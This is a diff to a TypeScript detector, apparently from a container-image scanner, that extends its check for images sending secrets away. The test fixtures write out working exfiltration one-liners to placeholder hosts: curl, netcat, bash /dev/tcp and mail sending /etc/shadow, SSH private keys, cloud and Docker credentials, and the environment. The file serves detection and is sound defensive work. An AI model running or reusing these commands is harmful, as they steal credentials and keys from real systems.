@@ -1,18 +1,25 @@
+import type { ExfiltrateEffect, SecretKind } from '../trace/effect.ts';
+import { secretAt, secretsIn } from '../trace/effects/secrets.ts';
 import { render } from '../trace/value.ts';
+import { type Destination, destinationOf, leaves } from './destinations.ts';
 import type { Detector } from './detector.ts';
 import { effectsOf } from './effects-of.ts';
+import { secretWords } from './secret-words.ts';
 import { findingOf, sightingOf } from './sighting.ts';
 import { valueWords } from './wording.ts';
 
 /** Secrets sent away. */
 export const exfiltration: Detector = {
   id: 'exfiltration',
-  version: 1,
+  version: 2,
   title: 'Sends secrets to somebody.',
   attack: ['T1041', 'T1552.001', 'T1567'],
   description: `
-Uploading a file is ordinary. Uploading private keys, password tables, cloud or registry credentials or the whole environment
-is not: *malicious* when an image does it while running.
+Uploading a file is ordinary. Uploading private keys, password tables, cloud or registry credentials, wallets, browser data or
+the whole environment is not: *malicious* when an image does it while running, also when the secrets were packed into an
+archive first, and whether it goes through curl, netcat, a socket or the mail. *Suspicious* when only a shell history or a file
+of settings goes, or keys are copied to a machine that is chosen while running (\`scp\` between one's own machines). What stays
+on the machine, in the cluster or goes to the cloud's own interface is nothing.
 `,
   fires: [
     { name: 'password table', image: { cmd: ['sh', '-c', 'curl -s --data-binary @/etc/shadow http://203.0.113.9/c'] } },
@@ -21,38 +28,130 @@ is not: *malicious* when an image does it while running.
       image: { cmd: ['sh', '-c', 'curl -F f=@/root/.aws/credentials https://collect.example/; exec app'] },
     },
     { name: 'the environment', image: { cmd: ['sh', '-c', 'curl -d "$(env)" https://collect.example/; exec app'] } },
+    {
+      name: 'packed first',
+      image: {
+        cmd: [
+          'sh',
+          '-c',
+          'tar czf /tmp/.a ~/.ssh ~/.aws ~/.kube 2>/dev/null; curl -sT /tmp/.a https://files.example/up',
+        ],
+      },
+    },
+    {
+      name: 'through a pipe',
+      image: { cmd: ['sh', '-c', 'cat ~/.docker/config.json | base64 -w0 | curl -d @- https://c.example/'] },
+    },
+    { name: 'through netcat', image: { cmd: ['sh', '-c', 'tar cz /root/.ssh | nc 203.0.113.9 4444'] } },
+    { name: 'through a socket of bash', image: { cmd: ['bash', '-c', 'cat /etc/shadow > /dev/tcp/203.0.113.9/443'] } },
+    {
+      name: 'in the address',
+      image: { cmd: ['sh', '-c', 'curl "https://c.example/?d=$(cat /root/.git-credentials | base64 -w0)"'] },
+    },
+    { name: 'by mail', image: { cmd: ['sh', '-c', 'mail -s x someone@box.example < /root/.ssh/id_rsa'] } },
+    {
+      name: 'the shell history',
+      severity: 'suspicious',
+      image: { cmd: ['sh', '-c', 'curl -F h=@/root/.bash_history https://c.example/'] },
+    },
   ],
   silent: [
     { name: 'a report', image: { cmd: ['sh', '-c', 'curl -F file=@/tmp/report.html https://ci.example/upload'] } },
     { name: 'a message', image: { cmd: ['sh', '-c', `curl -d '{"text":"started"}' https://hooks.example/x`] } },
+    {
+      name: 'its public key',
+      image: { cmd: ['sh', '-c', 'curl -F key=@/root/.ssh/id_rsa.pub https://git.example/keys'] },
+    },
+    {
+      name: 'a backup of the data',
+      image: {
+        cmd: [
+          'sh',
+          '-c',
+          'tar czf /backup/data.tgz /var/lib/app /etc/app; scp /backup/data.tgz backup@store.example:/srv/',
+        ],
+      },
+    },
+    {
+      name: 'a token of the cluster, used in the cluster',
+      image: {
+        cmd: [
+          'sh',
+          '-c',
+          'TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); curl -s -H "Authorization: Bearer $TOKEN" -d @patch.json https://kubernetes.default.svc/api/v1/namespaces/a/configmaps/b',
+        ],
+      },
+    },
+    {
+      name: 'logging in to Vault with the token of the cluster',
+      severity: 'note',
+      image: {
+        cmd: [
+          'sh',
+          '-c',
+          'curl -s -d "{\\"role\\":\\"a\\",\\"jwt\\":\\"$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\\"}" $VAULT_ADDR/v1/auth/kubernetes/login',
+        ],
+      },
+    },
+    {
+      name: 'credentials put in their place',
+      image: {
+        cmd: ['sh', '-c', 'mkdir -p ~/.aws; cp /secrets/aws ~/.aws/credentials; exec aws s3 sync /data s3://bucket/'],
+      },
+    },
   ],
   detect(scene) {
     return effectsOf(scene, 'exfiltrate').flatMap((effect) => {
-      const what = secretNamed(render(effect.what));
-      if (!what) return [];
-      return findingOf(scene, sightingOf(scene, effect), {
-        threat: 'hostile',
-        title: `Sends ${what} to ${valueWords(effect.to, 100)}`,
+      if (effect.via === 'dns' || effect.via === 'icmp') return [];
+      const kinds = secretsOf(effect);
+      const to = destinationOf(effect.to);
+      if (kinds.size === 0 || (!leaves(to) && to.kind !== 'cloud')) return [];
+      if (to.kind === 'cloud' && [...kinds].every((kind) => kind === 'cloud' || kind === 'cluster')) return [];
+      const mild = [...kinds].every((kind) => kind === 'history' || kind === 'dotenv' || kind === 'database');
+      const sighting = sightingOf(scene, effect);
+      const login = kinds.size === 1 && kinds.has('cluster') && isLogin(effect, to);
+      const chosen = mild || isOwnCopy(sighting.command?.name, to) || isGiven(effect);
+      return findingOf(scene, sighting, {
+        threat: login ? 'minor' : chosen ? 'dual-use' : 'hostile',
+        title: `Sends ${secretWords(kinds)} to ${valueWords(effect.to, 100)}`,
+        because: wayWords(effect, to),
         effects: [effect.id],
       });
     });
   },
 };
 
-/** What kind of secret a path or a command's output is. */
-function secretNamed(text: string): string | undefined {
-  const flat = text.slice(0, 2000);
-  if (/\/etc\/g?shadow/.test(flat)) return 'the password table';
-  if (/\.ssh\/(id_|\*|$)|ssh_host_[a-z0-9]{1,12}_key/.test(flat)) return 'private SSH keys';
-  if (/\.aws\/credentials|\.config\/gcloud|\.azure\//.test(flat)) return 'cloud credentials';
-  if (
-    /\.docker\/config\.json|\.kube\/config|kubernetes\.io\/serviceaccount\/token|\.git-credentials|\.netrc|\.npmrc|\.pypirc/.test(
-      flat,
-    )
-  )
-    return 'access tokens';
-  if (/\.bash_history|\.zsh_history/.test(flat)) return 'the shell history';
-  if (/[$`]\(?\s{0,2}(env|printenv)\s{0,2}[)`|]/.test(flat) || /\/proc\/(self|1|\*)\/environ/.test(flat))
-    return 'the environment with its secrets';
-  return undefined;
+/** The kinds of secrets that are in what is sent. */
+export function secretsOf(effect: ExfiltrateEffect): ReadonlySet<SecretKind> {
+  const own = secretAt(render(effect.what));
+  const found = new Set(secretsIn(`${render(effect.what)}\n${effect.holds ? render(effect.holds) : ''}`));
+  if (own) found.add(own);
+  return found;
+}
+
+/** `scp` and `rsync` to a machine that is not fixed in the image: one's own machines are set up like that. */
+function isOwnCopy(tool: string | undefined, to: Destination): boolean {
+  return (
+    (tool === 'scp' || tool === 'rsync' || tool === 'sftp') &&
+    to.kind !== 'bare' &&
+    to.kind !== 'onion' &&
+    to.kind !== 'throwaway'
+  );
+}
+
+/** A token shown to the service that gives out others for it, as Vault's login with a cluster's token does. */
+function isLogin(effect: ExfiltrateEffect, to: Destination): boolean {
+  return /\/(login|token|oauth)\b/.test(to.text) || isGiven(effect);
+}
+
+/** The address is a variable that whoever runs the image sets. */
+function isGiven(effect: ExfiltrateEffect): boolean {
+  const [head] = effect.to.filter((part) => part !== 'https://' && part !== 'http://');
+  return head !== undefined && typeof head !== 'string' && /^\$\{?[A-Z][A-Z0-9_]{1,60}\}?$/.test(head.hole);
+}
+
+function wayWords(effect: ExfiltrateEffect, to: Destination): string | undefined {
+  if (effect.holds) return 'It packs them into a file first.';
+  if (to.kind === 'channel') return `Anybody can open such an address at ${to.service}.`;
+  return to.kind === 'bare' ? 'They go to a bare address that nobody vouches for.' : undefined;
 }
